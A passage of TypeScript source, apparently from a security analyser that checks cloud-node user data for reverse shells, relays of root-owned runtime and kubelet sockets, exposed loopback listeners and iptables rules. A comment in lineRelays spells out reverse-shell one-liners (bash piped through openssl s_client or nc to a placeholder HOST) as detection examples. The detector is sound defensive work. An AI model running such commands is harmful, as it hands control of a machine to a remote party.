 *   /dev/tcp or /dev/udp connection to another host (bash(1) REDIRECTION: "bash attempts to open the corresponding TCP
 *   socket") hands a shell to whoever holds that host's end (shellHandedOut);
 * a descriptor `exec N<>/dev/tcp/HOST/PORT` opens counting as that connection for each later command reading or writing
 * it (`<&N`, `>&N`).
 */
export function lineRelays(line: string, how: string): NodeOpening[] {
    // `exec N<>FILE` (or `N<FILE`) without a command opens FILE on descriptor N for every later command of the line
    // (bash(1) "exec": "If command is not specified, any redirections take effect in the current shell"); a later
    // `<&N` or `>&N` reads or writes it (bash(1) REDIRECTION, "Duplicating File Descriptors").
    // zsh's `ztcp HOST PORT` (zshmodules(1), "The zsh/net/tcp Module": "ztcp [ -v ] [ -d fd ] host [ port ]" opens a
    // TCP connection "and the file descriptor ... is stored in the parameter $REPLY"; -l/-a listen and accept, -c
    // closes) opens that connection as `exec N<>/dev/tcp/HOST/PORT` does: a later `>&$REPLY` (or `-d`'s descriptor)
    // reads or writes it.
    const opened = new Map<string, string>();
    const descriptor = (p: string) => (/^\$\{?REPLY\}?$/.test(p) ? (opened.get("$REPLY") ?? p) : p);
    const commands = simpleCommands(line)
        .filter(c => c.words.length > 0)
        .map(c => {
            const dup = (fds: readonly string[] | undefined) => (fds ?? []).flatMap(fd => opened.get(fd) ?? []);
            const command = {
                ...c,
                reads: [...c.reads.map(descriptor), ...dup(c.dupIn)],
                writes: [...c.writes.map(descriptor), ...dup(c.dupOut)],
            };
            if (c.words.length === 1 && c.words[0] === "exec")
                for (const { fd, path } of c.fdReads ?? []) opened.set(fd, path);
            const ztcp = c.words.slice(programIndex(c.words));
            if (posix.basename(ztcp[0] ?? "") === "ztcp" && !ztcp.some(w => /^-[a-zA-Z]*[lac]/.test(w))) {
                const fd = ztcp.find((w, k) => ztcp[k - 1] === "-d");
                const [host, port] = ztcp.slice(1).filter((w, k, all) => !w.startsWith("-") && all[k - 1] !== "-d");
                if (host !== undefined) {
                    opened.set("$REPLY", `/dev/tcp/${host}/${port ?? ""}`);
                    if (fd !== undefined) opened.set(fd, `/dev/tcp/${host}/${port ?? ""}`);
                }
            }
            return command;
        });
    const ends = commands.map(clientEnds);
    // Groups: a pipeline's stages, and commands sharing a file one writes and another reads.
    const group = commands.map((_, i) => i);
    const find = (i: number): number => (group[i] === i ? i : (group[i] = find(group[i])));
    commands.forEach((c, i) => {
        if (c.pipesOut && i + 1 < commands.length) group[find(i + 1)] = find(i);
        commands.forEach((d, j) => {
            if (i !== j && c.writes.some(w => !w.startsWith("/dev/") && d.reads.includes(w))) group[find(j)] = find(i);
        });
    });
    const out: NodeOpening[] = [];
    const forwarders: Forwarder[] = [];
    commands.forEach((c, i) => {
        const members = commands.map((_, j) => j).filter(j => find(j) === find(i));
        if (members[0] !== i) return;
        const far = members.flatMap(j => ends[j].far);
        if (far.length === 0) return;
        // One command alone relays only through a /dev/tcp redirection of its own (its words are its reader's).
        const redirected = [...c.writes, ...c.reads].some(p => /^\/dev\/(tcp|udp)\//.test(p));
        if (members.length > 1 || redirected)
            for (const to of members.flatMap(j => ends[j].to))
                forwarders.push({
                    forwarder: `${members.map(j => commands[j].words.join(" ")).join(" | ")} (a relay of two clients)`,
                    listens: dialledOut(far[0]),
                    to,
                });
    });
    commands.forEach((c, i) => {
        const devFar = [...c.writes, ...c.reads].filter(p => /^\/dev\/(tcp|udp)\//.test(p));
        if (!runsClientCommands(c.words.join(" "))) return;
        if (ends[i].far.length > 0 && devFar.length > 0)
            out.push(shellHandedOut(how, `${c.words.join(" ")} connected to ${ends[i].far.join(", ")} (another host)`));
        // A shell whose input comes through the pipeline or a file (a FIFO) from commands joined with a client of
        // another host (`bash -i < /tmp/s | openssl s_client -connect HOST:PORT > /tmp/s`, `cat /tmp/f | bash -i |
        // nc HOST PORT > /tmp/f`) runs what that host sends: a reverse shell, whatever the client program.
        else {
            const members = commands.map((_, j) => j).filter(j => j !== i && find(j) === find(i));
            const far = members.flatMap(j => ends[j].far);
            const fed =
                (i > 0 && commands[i - 1].pipesOut && members.includes(i - 1)) ||
                members.some(j => commands[j].writes.some(w => !w.startsWith("/dev/") && c.reads.includes(w)));
            if (far.length > 0 && fed)
                out.push(
                    shellHandedOut(
                        how,
                        `${c.words.join(" ")} reads what ${far.join(", ")} (another host) sends, through ${members.map(j => commands[j].words.join(" ")).join(" | ")}`,
                    ),
                );
        }
    });
    return [...out, ...forwarderMarks(forwarders, how)];
}

/**
 * A relay of a root-power socket (podSpec.ts rootPowerSocket: the runtime's and the kubelet's, NODE_SECRETS; the D-Bus
 * system bus and systemd's, ROOT_SOCKETS) to the network: their API unauthenticated for whoever connects, root for any
 * pod reaching it, as containerd's tcp_address is; the bus and systemd take the root relay's credentials for the
 * client's. One rule for every relay reader: a relaying command's words (socat, ncat, systemd-socket-proxyd) and any
 * forwarder reaching such a socket from beyond loopback (loopbackJoin: an Envoy `pipe` endpoint, an nginx or HAProxy
 * unix upstream, a chain through a loopback relay).
 */
export const runtimeSocketRelay = (how: string): NodeOpening => ({
    who: "every pod that reaches the node",
    what: `user data relays a socket of the node's runtime, kubelet, D-Bus system bus or systemd, root on the node, to the network (${how}): whoever connects drives it as root (starts privileged containers or units, reads every pod's token); keep those sockets local`,
});

const isMark = (o: NodeOpening): o is LoopbackMark => "loopback" in o;

/**
 * The openings of one user data with its loopback listeners joined to its forwarders. A listener bound to loopback
 * (or admitting loopback clients only) serves only the instance's own processes unless something on the instance
 * forwards a listener beyond loopback to it: a reverse proxy (nginx proxy_pass, httpd ProxyPass, HAProxy, Caddy
 * reverse_proxy), a relay (socat, ssh -L/-R, gost, systemd-socket-proxyd) or a DNAT rule whose upstream is its port
 * or socket serves it to whoever reaches the forwarder (code-server docs, guide.md "Expose code-server": a reverse
 * proxy in front of code-server bound to 127.0.0.1 is how it is exposed, with its password; Jupyter Server docs,
 * "Security in the Jupyter Server": access to the server is running arbitrary code). Such a listener is judged as
 * listening where the forwarder listens (listenerOpenings): its own authentication still counts (a Jupyter with a
 * password or token, code-server with password auth, yields no listener), its client list does not (every forwarded
 * connection comes from the forwarder's own loopback address). A forwarder whose end the pack cannot tell (a variable,
 * a port it cannot read) reaches every loopback listener; a listener without a port it can read (Jupyter's `--port`
 * is a first choice among port_retries others) is reached by every forwarder to a loopback port. Forwarders on
 * loopback chain: one reached by another counts as listening where that one does. An exposed forwarder to the
 * runtime's or the kubelet's socket is a relay of it (runtimeSocketRelay).
 */
export function loopbackJoin(openings: readonly NodeOpening[]): NodeOpening[] {
    const marks = openings.filter(isMark).map(m => m.loopback);
    const listeners = marks.flatMap(m => ("listener" in m ? [m] : []));
    const activations = marks.flatMap(m => ("activates" in m ? [m.activates] : []));
    const forwarders = marks.flatMap(m =>
        "forwarder" in m
            ? [{ ...m.forwarder, how: m.how, listens: socketActivatedListens(m.forwarder, m.how, activations) }]
            : [],
    );
    const exposed = forwarders.filter(f => !loopbackOnly(f.listens));
    // Each forwarder on loopback is exposed once, by the first exposed one reaching it (a chain ends).
    const chained = new Set<(typeof forwarders)[number]>();
    for (let i = 0; i < exposed.length; i++)
        for (const inner of forwarders)
            if (
                loopbackOnly(inner.listens) &&
                !chained.has(inner) &&
                reaches(exposed[i].to, inner.listens) &&
                chained.add(inner)
            )
                exposed.push({
                    ...inner,
                    forwarder: `${inner.forwarder}, behind ${exposed[i].forwarder}`,
                    listens: exposed[i].listens,
                });
    // A joined listener's own relays (servedForwarders) are marks already chained above: only its openings count.
    const joined = exposed.flatMap(f =>
        listeners
            .filter(l => reaches(f.to, l.listener.binds.length > 0 ? l.listener.binds : ["0.0.0.0"]))
            .flatMap(l =>
                listenerOpenings(
                    [{ ...l.listener, binds: f.listens, allowed: [] }],
                    `${l.how}, bound to ${l.listener.binds.join(", ") || "its default"} and served beyond loopback by ${f.forwarder} (${f.how})`,
                ).filter(o => !isMark(o)),
            ),
    );
    // A root-power socket by a path user data links to it (linkedPaths; the AMI's /var/run too), or by a link the pack
    // cannot follow, is that socket: connect(2) follows the links.
    const links = [...AMI_LINKS, ...marks.flatMap(m => ("link" in m ? [m.link] : []))];
    const rootPower = (path: string): string | undefined => {
        const real = linkedPaths(path, links);
        if (real === undefined)
            return `${path}, which a link user data makes whose path or target the pack cannot tell may lead anywhere`;
        const found = real.find(p => rootPowerSocket(p));
        return found === undefined ? undefined : found === posix.normalize(path) ? path : `${path}, a link to ${found}`;
    };
    const sockets = [
        ...exposed.flatMap(f => {
            const socket = f.to.socket === undefined ? undefined : rootPower(f.to.socket);
            return socket ? [runtimeSocketRelay(`${f.forwarder} to ${socket}, ${f.how}`)] : [];
        }),
        ...marks.flatMap(m => {
            if (!("relay" in m)) return [];
            const socket = m.relay.paths.map(rootPower).find(x => x !== undefined);
            return socket ? [runtimeSocketRelay(`${m.relay.how}: ${socket}`)] : [];
        }),
    ];
    return [...openings.filter(o => !isMark(o)), ...joined, ...sockets];
}

/**
 * Round 81: where a socket-activated forwarder (Forwarder.socketActivated: systemd-socket-proxyd(8), "a generic
 * socket-activated network socket forwarder proxy daemon", which serves only the sockets systemd passes it) listens:
 * every Listen address of the socket units user data writes that activate the service whose ExecStart runs it
 * (systemd.socket(5) Service=, else the socket's own name; `activates` marks of socketShellOpenings). A forwarder
 * not started by a service unit file (`how` names none), or one no socket unit the pack reads activates, keeps its
 * own listens (every address: fail closed).
 */
function socketActivatedListens(
    f: Forwarder,
    how: string,
    activations: readonly { service: string; listens: readonly string[] }[],
): readonly string[] {
    if (!f.socketActivated) return f.listens;
    const unit = /^\/\S+\/([^/\s]+\.service)(?:\.d\/[^:\s]+)?: /.exec(how)?.[1];
    const listens = activations.filter(a => a.service === unit).flatMap(a => a.listens);
    return unit === undefined || listens.length === 0 ? f.listens : listens;
}

/** What the node's own settings make of root's writes and commands (rootReads.ts finds them). */
/**
 * Podman Quadlet units: systemd's generator turns each into a service running `podman run` with the unit's Volume=,
 * AddCapability=, Network= ... (podman-systemd.unit(5), search paths for root and users).
 */
export const QUADLET_UNIT =
    /^\/(etc\/containers\/systemd|usr\/share\/containers\/systemd|root\/\.config\/containers\/systemd|home\/[^/]+\/\.config\/containers\/systemd)\/.+\.(container|kube|pod)$/;

/**
 * An iptables rule that only passes, logs or hands on for judgement packets the instance itself sends: the filter
 * table (the default; iptables(8) "TABLES": filter's OUTPUT is "for locally-generated packets"), a chain that is
 * OUTPUT or the user's own (`-N` makes one), and a target that accepts, returns, logs, drops or jumps to a user chain
 * (no NAT, redirect, TPROXY, TTL, TEE or queue target: iptables-extensions(8) "TARGET EXTENSIONS"). EC2's "Limit
 * access to the Instance Metadata Service" locks metadata to chosen local users this way. Rules on INPUT, FORWARD
 * or PREROUTING, and every other table, may route metadata for others and stay judged as relays.
 */
export function filtersLocalOutput(operands: readonly string[]): boolean {
    const value = (short: string[], long: string[]) => {
        const i = operands.findIndex(w => short.includes(w) || long.includes(w));
        const glued = operands.find(w => long.some(l => w.startsWith(`${l}=`)));
        return i >= 0 ? operands[i + 1] : glued?.slice(glued.indexOf("=") + 1);
    };
    if ((value(["-t"], ["--table"]) ?? "filter") !== "filter") return false;
    if (operands.some(w => w === "-N" || w === "--new-chain")) return true;
    const chain = value(["-A", "-I", "-R"], ["--append", "--insert", "--replace"]);
    if (!chain || /^(INPUT|FORWARD|PREROUTING|POSTROUTING)$/.test(chain)) return false;
    const target = value(["-j", "-g"], ["--jump", "--goto"]);
    return target === undefined || !IPTABLES_TARGET_EXTENSIONS.has(target);
}

/**
 * Round 81: an iptables rule whose target only lowers packets' TTL or hop limit: iptables-extensions(8) TTL "--ttl-set
 * value: Set the TTL value to 'value'", "--ttl-dec value: Decrement the TTL value 'value' times" (HL: --hl-set,
 * --hl-dec), with a set value of at most 1 or a decrement and no --ttl-inc/--hl-inc. A packet so marked expires at the
 * next hop (a pod behind the node's forwarding is one): it restricts instance metadata's reach (the IMDSv2 hop limit is
 * the token answer's IP TTL), never widens it, whatever addresses the rule matches.
 */
export function lowersHopLimit(operands: readonly string[]): boolean {
    const words = operands.map(w => w.replace(/\0/g, ""));
    const at = words.findIndex(w => w === "-j" || w === "--jump");
    const target = at < 0 ? undefined : words[at + 1];
    if (target !== "TTL" && target !== "HL") return false;
    const changes = words.flatMap((w, i) => (/^--(ttl|hl)-(set|dec|inc)$/.test(w) ? [[w, words[i + 1] ?? ""]] : []));
    return (
        changes.length > 0 &&
        words.every(w => !/^--(ttl|hl)-/.test(w) || /^--(ttl|hl)-(set|dec|inc)$/.test(w)) &&
        changes.every(([w, v]) => /^\d+$/.test(v) && (/-dec$/.test(w) || (/-set$/.test(w) && Number(v) <= 1)))
    );
}

/** iptables-extensions(8) "TARGET EXTENSIONS" that change or re-route packets (LOG, NFLOG only log): a name not here is ACCEPT, DROP, REJECT, RETURN or a chain. */
const IPTABLES_TARGET_EXTENSIONS = new Set(
    "AUDIT CHECKSUM CLASSIFY CLUSTERIP CONNMARK CONNSECMARK CT DNAT DNPT DSCP ECN HL HMARK IDLETIMER LED MARK MASQUERADE NETMAP NFQUEUE NOTRACK RATEEST REDIRECT SECMARK SET SNAT SNPT SYNPROXY TCPMSS TCPOPTSTRIP TEE TOS TPROXY TRACE TTL ULOG".split(
        " ",
    ),
);

/** The AMI's own link: /var/run is a link to /run (systemd's tmpfiles.d/var.conf, "L /var/run - - - - ../run"). */
const AMI_LINKS: readonly NodeLink[] = [{ at: "/var/run", target: "/run", how: "the AMI" }];

/**
 * Every path `path` may name once the links (NodeLink) are followed, itself included: a link at it or at a directory
 * above it leads to its target (path_resolution(7): each component is looked up, symbolic links followed; connect(2)
 * on a unix socket's path resolves it so, unix(7) "Pathname sockets"), a link the pack cannot tell may lead anywhere
 * (undefined). A hard link is the same file at another path, read alike.
 */
function linkedPaths(path: string, links: readonly NodeLink[]): string[] | undefined {
    const seen = new Set([posix.normalize(path)]);
    const queue = [...seen];
    while (queue.length > 0) {
        const p = queue.shift()!;
        for (const { at, target } of links) {
            if (at === undefined) return undefined;
            if (p !== at && !p.startsWith(at === "/" ? "/" : `${at}/`)) continue;
            if (target === undefined) return undefined;
            const q = posix.normalize(`${target}/${p.slice(at.length)}`).replace(/(.)\/$/, "$1");
            if (seen.has(q)) continue;
            if (seen.size >= 64) return undefined;
            seen.add(q);
            queue.push(q);
        }
    }
    return [...seen];
}
